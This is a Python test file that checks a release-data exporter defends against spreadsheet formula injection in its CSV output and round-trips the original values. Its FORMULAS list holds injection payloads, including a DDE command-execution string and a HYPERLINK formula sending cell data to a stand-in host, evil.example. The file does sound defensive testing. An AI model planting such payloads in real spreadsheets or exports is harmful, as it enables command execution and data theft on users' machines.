"""A table of releases opened in a spreadsheet: no cell is a formula, and an import reads the original."""

import csv

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hypecheck.exporters.release_files import WRITERS, write_releases
from hypecheck.readers.releases_csv import read_releases_csv
from hypecheck.resources import from_cell, to_cell
from hypecheck.types import Release

FORMULAS = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example?\"&A1)", "+1+1", "-2+3", "@SUM(A1)",
    "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1", "''=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "=", "'-",
]  # fmt: skip
STARTS = tuple("=+-@\t\r\n＝＋－＠")
FIELDS = ("id", "name", "family", "organization", "country", "licence", "note", "kind", "terms")


def cells_of(path):
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("attack", FORMULAS)
def test_no_cell_of_an_export_is_a_formula(tmp_path, attack):
    path = tmp_path / "r.csv"
    release = Release(
        **dict.fromkeys(FIELDS, attack), date="2024", aliases=(attack, "x"), traits=(attack,),
        sources=(attack,), inputs=(attack,), confidence=attack, purpose=attack,
    )  # fmt: skip
    write_releases([release], path, "csv")
    _, *rows = cells_of(path)
    assert len(rows) == 1
    assert [cell for cell in rows[0] if cell.startswith(STARTS)] == []


@pytest.mark.parametrize("attack", FORMULAS)
def test_an_import_reads_the_original(tmp_path, attack):
    path = tmp_path / "r.csv"
    release = Release(**dict.fromkeys(FIELDS, attack), date="2024", openness="closed")
    write_releases([release], path, "csv")
    (again,) = read_releases_csv(path)
    assert [getattr(again, name) for name in FIELDS] == [attack] * len(FIELDS)


def test_what_is_no_formula_stays_as_it_is(tmp_path):
    path = tmp_path / "r.csv"
    release = Release(
        "gpt-2", "GPT-2 (1.5B)", date="2019-02", note="'quoted', 1 = 1", parameters=15
    )
    write_releases([release], path, "csv")
    row = dict(zip(*cells_of(path), strict=True))
    assert (row["id"], row["name"], row["notes"]) == ("gpt-2", "GPT-2 (1.5B)", "'quoted', 1 = 1")
    assert row["parameters"] == "15"


def test_csv_is_the_only_export_that_a_spreadsheet_reads_as_text():
    assert sorted(WRITERS) == ["csv", "parquet", "sqlite"]


cell = st.text(st.sampled_from("'=+-@\t\r\n a,\";é\x00＝"), max_size=6)


@given(cell)
def test_a_cell_is_safe_and_comes_back(text):
    assert not to_cell(text).startswith(STARTS)
    assert from_cell(to_cell(text)) == text


@settings(max_examples=80, deadline=None)
@given(st.lists(cell, min_size=3, max_size=3))
def test_a_file_comes_back_whatever_its_cells_hold(tmp_path_factory, texts):
    path = tmp_path_factory.mktemp("csv") / "r.csv"
    name, note, licence = (text.replace("\x00", "") for text in texts)
    release = Release("x", name, date="2024", note=note, licence=licence, openness="closed")
    write_releases([release], path, "csv")
    (again,) = read_releases_csv(path)
    assert (again.name, again.note, again.licence) == (name, note, licence)
